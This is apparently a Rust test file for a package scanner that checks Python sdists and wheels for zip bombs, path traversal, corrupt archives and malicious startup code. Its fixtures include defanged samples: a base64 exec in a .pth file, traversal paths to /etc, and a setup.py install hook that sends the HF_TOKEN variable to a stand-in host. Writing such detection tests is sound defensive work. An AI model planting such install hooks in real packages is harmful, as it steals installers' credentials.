//! sdists and wheels read in memory: limits against zip bombs and path
//! traversal, corrupt input, and where a member's code runs. Archives are
//! built here, in memory; their contents are defanged text.

use std::io::{Cursor, Write};

use squatch::findings::archive::{scan_archive, Limits};
use squatch::findings::RuleSet;

fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, body) in files {
        w.start_file(*name, opts).unwrap();
        w.write_all(body).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn targz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let mut tar = tar::Builder::new(gz);
    for (name, body) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(body.len() as u64);
        h.set_mode(0o644);
        // Write the raw name so that hostile names ("../x") survive.
        let bytes = name.as_bytes();
        h.as_old_mut().name[..bytes.len()].copy_from_slice(bytes);
        h.set_cksum();
        tar.append(&h, *body).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

/// A `.tar.bz2` sdist built like [`targz`].
fn tarbz2(files: &[(&str, &[u8])]) -> Vec<u8> {
    let raw = targz(files);
    let mut tar = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&raw[..]), &mut tar).unwrap();
    let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    bz.write_all(&tar).unwrap();
    bz.finish().unwrap()
}

fn ids(scan: &squatch::findings::archive::ArchiveScan) -> Vec<(String, String)> {
    scan.findings
        .iter()
        .map(|f| (f.member.clone(), f.finding.rule_id.clone()))
        .collect()
}

#[test]
fn wheel_with_a_root_pth_is_startup_code() {
    // The litellm 1.82.8 shape: a .pth at the wheel's root lands in
    // site-packages and runs on every interpreter start.
    let whl = zip(&[
        ("litellm_fake/__init__.py", b"x = 1\n"),
        (
            "litellm_fake_init.pth",
            b"import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
        ),
        ("litellm_fake-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
    ]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "litellm_fake-1.0-py3-none-any.whl",
        &whl,
        &Limits::default(),
    );
    let f = scan
        .findings
        .iter()
        .find(|f| f.member == "litellm_fake_init.pth" && f.finding.rule_id == "obf-exec-decode")
        .expect("root .pth scanned as start-up code");
    assert_eq!(f.finding.role.as_str(), "startup");
    assert_eq!(f.finding.severity.as_str(), "high");
    assert_eq!(scan.package.as_deref(), Some("litellm_fake"));
}

#[test]
fn nested_pth_in_an_sdist_is_not_startup() {
    let sdist = targz(&[(
        "pkg-1.0/tests/data/fixture.pth",
        b"import os; exec(base64.b64decode('eA=='))\n",
    )]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &sdist,
        &Limits::default(),
    );
    assert!(
        scan.findings
            .iter()
            .all(|f| f.finding.severity.as_str() != "high"),
        "{:?}",
        ids(&scan)
    );
}

#[test]
fn path_traversal_is_reported_never_followed() {
    let sdist = targz(&[
        (
            "pkg-1.0/setup.py",
            b"from setuptools import setup\nsetup()\n",
        ),
        ("../../etc/cron.d/fake", b"* * * * * root true\n"),
    ]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &sdist,
        &Limits::default(),
    );
    assert!(
        ids(&scan)
            .iter()
            .any(|(_, id)| id == "archive-path-traversal"),
        "{:?}",
        ids(&scan)
    );
    let zipped = zip(&[("../evil.py", b"x = 1\n")]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.zip",
        &zipped,
        &Limits::default(),
    );
    assert!(ids(&scan)
        .iter()
        .any(|(_, id)| id == "archive-path-traversal"));
}

#[test]
fn zip_bomb_member_is_refused_by_ratio() {
    let zeros = vec![0u8; 8 * 1024 * 1024];
    let bomb = zip(&[
        ("pkg/__init__.py", &zeros),
        ("pkg/ok.py", b"exec(base64.b64decode(x))\n"),
    ]);
    assert!(bomb.len() < 100 * 1024);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0-py3-none-any.whl",
        &bomb,
        &Limits::default(),
    );
    let ids = ids(&scan);
    assert!(ids.iter().any(|(_, id)| id == "archive-limit"), "{ids:?}");
    // The rest of the archive is still scanned.
    assert!(
        ids.iter()
            .any(|(m, id)| m == "pkg/ok.py" && id == "obf-exec-decode"),
        "{ids:?}"
    );
}

#[test]
fn tar_gz_bomb_stops_at_the_total_limit() {
    let zeros = vec![b'a'; 4 * 1024 * 1024];
    let sdist = targz(&[
        ("pkg-1.0/big.txt", &zeros),
        ("pkg-1.0/setup.py", b"exec(base64.b64decode(x))\n"),
    ]);
    let limits = Limits {
        max_total_bytes: 1024 * 1024,
        ..Limits::default()
    };
    let scan = scan_archive(RuleSet::builtin(), "pkg-1.0.tar.gz", &sdist, &limits);
    assert!(
        ids(&scan).iter().any(|(_, id)| id == "archive-limit"),
        "{:?}",
        ids(&scan)
    );
    // With the default limits the ratio guard trips instead (4 MiB of one byte).
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &sdist,
        &Limits::default(),
    );
    assert!(ids(&scan).iter().any(|(_, id)| id == "archive-limit"));
}

#[test]
fn too_many_entries_is_a_finding() {
    let names: Vec<String> = (0..50).map(|i| format!("pkg/m{i}.txt")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let z = zip(&files);
    let limits = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let scan = scan_archive(RuleSet::builtin(), "pkg.zip", &z, &limits);
    assert!(ids(&scan).iter().any(|(_, id)| id == "archive-limit"));
}

#[test]
fn corrupt_and_unknown_archives_give_a_finding_not_a_panic() {
    let mut gz = targz(&[("pkg-1.0/setup.py", b"x = 1\n")]);
    gz.truncate(gz.len() / 2);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &gz,
        &Limits::default(),
    );
    assert!(!scan.findings.is_empty());
    // xz is not read: one row says so.
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.xz",
        b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46",
        &Limits::default(),
    );
    assert_eq!(
        ids(&scan),
        vec![(String::new(), "archive-unreadable".to_string())]
    );
    let scan = scan_archive(
        RuleSet::builtin(),
        "x.zip",
        b"PK\x03\x04garbage",
        &Limits::default(),
    );
    assert!(!scan.findings.is_empty());
}

#[test]
fn symlink_inside_the_archive_is_fine_outside_is_not() {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (name, target) in [
        ("pkg-1.0/docs/a.rst", "../README.rst"),
        ("pkg-1.0/docs/b.rst", "../../../etc/passwd"),
    ] {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_size(0);
        h.set_link_name(target).unwrap();
        h.set_cksum();
        tar.append_data(&mut h, name, std::io::empty()).unwrap();
    }
    let bytes = tar.into_inner().unwrap().finish().unwrap();
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &bytes,
        &Limits::default(),
    );
    let hits: Vec<_> = scan
        .findings
        .iter()
        .filter(|f| f.finding.rule_id == "archive-path-traversal")
        .collect();
    assert_eq!(hits.len(), 1, "{:?}", ids(&scan));
    assert!(hits[0].finding.evidence.contains("b.rst"));
}

const HOOK_SETUP_PY: &[u8] = br#"raise SystemExit("squatch test fixture: read as text, never run")
from setuptools import setup
from setuptools.command.install import install
import os, urllib.request

class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlopen("https://collector.invalid/i?d=" + os.environ.get("HF_TOKEN", ""))

setup(name="oldpkg", version="0.1", cmdclass={"install": PostInstall})
"#;

#[test]
fn tar_bz2_sdist_is_read_like_tar_gz() {
    let sdist = tarbz2(&[
        ("oldpkg-0.1/setup.py", HOOK_SETUP_PY),
        ("oldpkg-0.1/oldpkg/__init__.py", b"x = 1\n"),
    ]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "oldpkg-0.1.tar.bz2",
        &sdist,
        &Limits::default(),
    );
    let found = ids(&scan);
    assert!(
        found
            .iter()
            .any(|(m, id)| m == "oldpkg-0.1/setup.py" && id == "combo-install-hook-network"),
        "{found:?}"
    );
    assert_eq!(scan.package.as_deref(), Some("oldpkg"));
    assert_eq!(scan.scanned, 2);
    // Sniffed by content whatever the name says.
    let renamed = scan_archive(RuleSet::builtin(), "download", &sdist, &Limits::default());
    assert_eq!(ids(&renamed), found);
}

#[test]
fn benign_tar_bz2_sdist_stays_quiet() {
    let sdist = tarbz2(&[
        (
            "plain-1.0/setup.py",
            b"from setuptools import setup\nsetup(name='plain', version='1.0')\n",
        ),
        ("plain-1.0/plain/__init__.py", b"def hi():\n    return 1\n"),
    ]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "plain-1.0.tar.bz2",
        &sdist,
        &Limits::default(),
    );
    assert!(
        scan.findings
            .iter()
            .all(|f| f.finding.severity < squatch::findings::Severity::Medium),
        "{:?}",
        ids(&scan)
    );
    assert_eq!(scan.scanned, 2);
}

#[test]
fn tar_bz2_bomb_and_corruption_hit_the_same_limits() {
    let zeros = vec![b'a'; 4 * 1024 * 1024];
    let sdist = tarbz2(&[
        ("pkg-1.0/big.txt", &zeros),
        ("pkg-1.0/setup.py", b"exec(base64.b64decode(x))\n"),
    ]);
    let small = Limits {
        max_total_bytes: 1024 * 1024,
        ..Limits::default()
    };
    for limits in [small, Limits::default()] {
        let scan = scan_archive(RuleSet::builtin(), "pkg-1.0.tar.bz2", &sdist, &limits);
        assert!(
            ids(&scan).iter().any(|(_, id)| id == "archive-limit"),
            "{:?}",
            ids(&scan)
        );
        assert!(!ids(&scan).iter().any(|(m, _)| m.ends_with("setup.py")));
    }
    let names: Vec<String> = (0..50).map(|i| format!("pkg/m{i}.txt")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let many = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let scan = scan_archive(RuleSet::builtin(), "pkg.tar.bz2", &tarbz2(&files), &many);
    assert!(ids(&scan).iter().any(|(_, id)| id == "archive-limit"));

    let mut cut = tarbz2(&[("pkg-1.0/setup.py", HOOK_SETUP_PY)]);
    cut.truncate(cut.len() / 2);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.bz2",
        &cut,
        &Limits::default(),
    );
    assert!(
        ids(&scan).iter().any(|(_, id)| id == "archive-limit"),
        "{:?}",
        ids(&scan)
    );
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.bz2",
        b"BZh91AY&SY",
        &Limits::default(),
    );
    assert!(!scan.findings.is_empty());
}
